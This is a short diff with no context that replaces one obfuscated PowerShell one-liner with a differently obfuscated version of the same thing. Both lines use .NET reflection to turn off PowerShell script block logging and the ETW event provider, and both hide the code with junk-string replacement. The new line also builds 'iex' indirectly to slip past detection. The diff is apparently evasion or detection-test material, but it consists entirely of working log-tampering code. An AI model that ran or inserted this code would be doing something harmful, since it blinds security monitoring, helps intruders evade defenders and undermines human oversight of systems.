@@ -1,5 +1,5 @@
-[ScriptBlock]::Create('iex ((''# init 2105 v3
-$settings = [Ref].AKVQ38ssembly.GetType(''''System.Management.Automation.Utils'''').GetField(''''cachedGroupPolicySettings'''',''''NonPublic,Static'''').GetValKVQ38ue($null)
-$settings[''''HKEY_LOCAL_MACHINE\Softjx~8are\Policies\Microsoft\Windojx~8s\Pojx~8erShell\ScriptBlockLogginKVQ38g''''][''''EnableScriptBlockLogging''''] = 0
-[Reflection.Assembly]::LoadWithPartialName(''''System.CKVQ38ore'''').GetType(''''System.Diagnostics.Eventing.EventProvider'''').GetField(''''m_enabled'''',''''NonPublic,Instance'''').SetValue([Ref].Assembly.GetType(''''System.Management.Automation.Tracing.PSEtjx~8LogProvider'''').GetField(''''etjx~8Provider'''',''''NoKVQ38nPublic,Static'''').GetValue($null),0)
-'' -replace ''KVQ38'','''').Replace(''jx~8'',''w''))').Invoke()
+'iex ((''# setup 0359 v3
+$settings = [Ref].Assembly.GetType(''''System.Management.Automation.Utils'''').GetField(''''cachedGroupPolicySettings'''',''''NonPublic,Static'''').GetValue($null)
+$settings[''''HKEY_LOCAL_MACHINE\SoftwareJKZ34\Policies\Microsoft\vq~1indows\PowerShell\ScriptBlockLogging''''][''''EnableScriptBlockLogging''''] = 0
+[Reflection.Assembly]::Loadvq~1ithPartialName(''''System.Core'''').GeJKZ34tType(''''System.Diagnostics.Eventing.EventProvider'''').GetField(''''m_enabled'''',''''NonPublic,Instance'''').SetValue([Ref].Assembly.GetType(''''System.Management.Automation.Tracing.PSEtwLogProvider'''').GetField(''''etwProvider'''',''''NonPublic,Static'''').GetValue($null),0)
+'' -replace ''JKZ34'','''').Replace(''vq~1'',''W''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')
